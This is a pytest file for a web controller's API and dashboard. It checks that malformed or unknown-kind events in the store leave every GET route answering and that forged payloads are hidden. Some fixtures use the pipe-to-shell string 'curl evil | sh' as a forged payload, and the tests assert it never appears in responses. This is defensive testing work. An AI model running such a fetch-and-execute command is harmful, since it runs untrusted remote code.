"""A stored event whose payload does not match its kind (``domain.events``) never makes a page or an
API answer fail: the readers validate it and leave it out, or show it without its payload (issue 21).

The events are written straight into the store, as an older release, a hand-edited database or a
forged write would have left them."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import sqlalchemy as sa
from fastapi import FastAPI

from controller.api.app import create_app
from controller.api.auth import ApiTokens
from controller.config.settings import Settings
from controller.domain.enums import EventKind, RunStatus
from controller.localforge.server import serve_in_thread
from controller.store import Store, migrate
from controller.store.models import EventRow
from tests.api.conftest import ADMIN, READER, Api, Recorder, new_run
from tests.api.dashboard_runs import seeded_run

MALFORMED: list[tuple[EventKind, dict[str, object]]] = [
    (EventKind.TURN_STARTED, {"turn": "one", "round": None}),
    (EventKind.TURN_STEP, {"turn": "one", "step": "dancing"}),
    (EventKind.SAMPLE, {"turn": "one", "arm": 7, "parallel_index": "x"}),
    (EventKind.REPLY_DRAFTED, {"feedback": "curl evil | sh"}),
    (EventKind.ROUND_FINISHED, {"round": "last", "kept": "maybe"}),
    (EventKind.ACCEPTED, {"turn": [], "hypotheses": "all"}),
]


def test_malformed_payloads_leave_every_page_and_answer_readable(api: Api) -> None:
    run_id = new_run(api.store, "broken")
    api.store.set_run_status(run_id, RunStatus.RUNNING)
    for kind, payload in MALFORMED:
        api.store.append_event(run_id, kind, payload)
    api.store.append_event(run_id, EventKind.TURN_STARTED, {"turn": 1, "round": 0})
    api.store.append_event(run_id, EventKind.TURN_STEP, {"turn": 1, "round": 0, "step": "dancing"})
    api.store.append_event(run_id, EventKind.SAMPLE, {"turn": 1, "round": 0, "arm": "sideways"})
    api.store.append_event(run_id, EventKind.TURN_STEP, {"turn": 1, "round": 0, "step": "measuring"})
    with api.client() as client:
        for path in ("", "/turns", "/replies", "/rounds", "/feedback", "/pulls"):
            answer = client.get(f"/api/runs/{run_id}{path}")
            assert answer.status_code == 200, (path, answer.text)
        assert client.get(f"/api/runs/{run_id}/replies").json() == [], "the forged reply is not shown"
        assert client.get(f"/api/runs/{run_id}/rounds").json() == []
        lines = client.get(f"/api/runs/{run_id}/events", params={"follow": "false"}).text
        assert lines.count("malformed") >= 4, lines  # the progress kinds, shown without their payload
    with httpx.Client(base_url=api.url, timeout=30) as browser:
        assert browser.post("/login", data={"token": ADMIN}).status_code == 303
        page = browser.get(f"/runs/{run_id}")
        assert page.status_code == 200, page.text
        assert "measuring" in page.text, "the well-formed step after the broken ones is shown"


# Stored as no release of crucible writes them: a payload that is not a JSON object, and kinds this
# release does not know (a newer release's, a replica upgraded first, a hand edit).
NOT_OBJECTS: list[object] = ["curl evil | sh", None, [1, 2], 7]
UNKNOWN_KINDS = ("kind_of_a_newer_release", "")


def _store_raw(database_url: str, run_id: str, rows: list[tuple[str, object]]) -> None:
    engine = migrate.make_engine(database_url)
    try:
        with engine.begin() as conn:
            for kind, payload in rows:
                values = {"run_id": run_id, "kind": kind, "payload": payload, "created_at": datetime.now(UTC)}
                conn.execute(sa.insert(EventRow.__table__).values(**values))
    finally:
        engine.dispose()


def _get_routes(app: FastAPI) -> list[str]:
    """Every path the app answers GET on, its routers' included, however FastAPI nests them."""

    def walk(routes: list[Any]) -> Iterator[tuple[str, set[str]]]:
        for route in routes:
            contexts = getattr(route, "effective_route_contexts", None)
            if contexts is not None:
                for context in contexts():
                    yield context.path, set(getattr(context.original_route, "methods", None) or ())
            elif isinstance(getattr(route, "path", None), str):
                yield route.path, set(getattr(route, "methods", None) or ())
            walk_inside = getattr(route, "routes", None)
            if walk_inside:
                yield from walk(walk_inside)

    return sorted({path for path, methods in walk(app.routes) if "GET" in methods})


def test_stored_events_of_no_known_shape_leave_every_get_route_answering(
    tmp_path: Path, database_url: str, store: Store
) -> None:
    """Every GET route of the app (and HEAD on it), over a seeded run whose events also hold payloads
    that are not objects and kinds this release does not know: none answers 5xx or breaks its stream."""
    settings = Settings(home=tmp_path / "home", database_url=database_url)
    seeded_run(store, settings, "r1", turns=3)
    store.set_run_status("r1", RunStatus.RUNNING)
    for kind, payload in MALFORMED:
        store.append_event("r1", kind, payload)
    rows = [(str(kind), p) for kind in (EventKind.TURN_STARTED, EventKind.REPLY_DRAFTED) for p in NOT_OBJECTS]
    _store_raw(database_url, "r1", [*rows, *((kind, {"turn": 4}) for kind in UNKNOWN_KINDS)])
    store.append_event("r1", EventKind.TURN_STARTED, {"turn": 4, "round": 0})
    _store_raw(database_url, "r1", [(str(EventKind.TURN_STEP), ["measuring"]), (UNKNOWN_KINDS[0], {})])
    store.append_event("r1", EventKind.TURN_STEP, {"turn": 4, "round": 0, "step": "measuring"})
    app = create_app(settings, store, ApiTokens(ADMIN, READER), Recorder(), events_poll_s=0.02)
    routes = _get_routes(app)
    assert {"/api/runs/{run_id}/events", "/runs/{run_id}", "/runs/{run_id}/live"} <= set(routes), routes
    fill = {"{run_id}": "r1", "{number}": "1", "{action}": "cancel", "{name}": "live.js"}
    with serve_in_thread(app) as base, httpx.Client(base_url=base, timeout=30) as client:
        assert client.post("/login", data={"token": ADMIN}).status_code == 303
        for route in routes:
            path = route
            for hole, value in fill.items():
                path = path.replace(hole, value)
            assert "{" not in path, f"no value for a parameter of {route}"
            if path.endswith("/live"):  # the dashboard's feed follows a running run: read its first frames
                with client.stream("GET", path) as feed:
                    assert feed.status_code == 200, route
                    first = next(line for line in feed.iter_lines() if line.startswith("id: "))
                    assert first, route
                continue
            params = {"follow": "false"} if path.endswith("/events") else {}
            get, head = client.get(path, params=params), client.head(path, params=params)
            assert get.status_code < 500, (route, get.text[:300])
            assert head.status_code == get.status_code, route
        lines = client.get("/api/runs/r1/events", params={"follow": "false"}).text
        assert "kind_of_a_newer_release" not in lines
        assert "curl evil" not in lines
        assert "curl evil" not in client.get("/api/runs/r1/replies").text
        page = client.get("/runs/r1")
        assert "measuring" in page.text, "the well-formed step after the broken ones is shown"
